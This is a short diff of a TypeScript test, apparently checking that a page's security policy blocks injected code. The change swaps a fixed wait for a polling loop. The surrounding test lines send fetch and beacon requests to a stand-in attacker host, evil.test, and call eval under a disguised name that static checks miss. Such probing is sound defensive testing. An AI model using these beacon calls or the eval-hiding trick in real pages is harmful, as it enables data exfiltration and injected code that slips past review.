@@ -116,7 +116,8 @@ describe('what is injected into a page', () => {
       await fetch('https://evil.test/cart').catch(() => found.push('fetch failed'));
       navigator.sendBeacon('https://evil.test/beacon', 'x');
       // What the test's own connection calls may evaluate; what a timer calls may not.
-      await new Promise((resolve) => setTimeout(resolve, 200));
+      for (let turn = 0; turn < 50 && !found.includes('form-action'); turn += 1)
+        await new Promise((resolve) => setTimeout(resolve, 100));
       try {
         // biome-ignore lint/complexity/useLiteralKeys: called by a name that no check looks for
         (globalThis as unknown as Record<string, (code: string) => void>)['eval']?.('window.__pwned = 1');
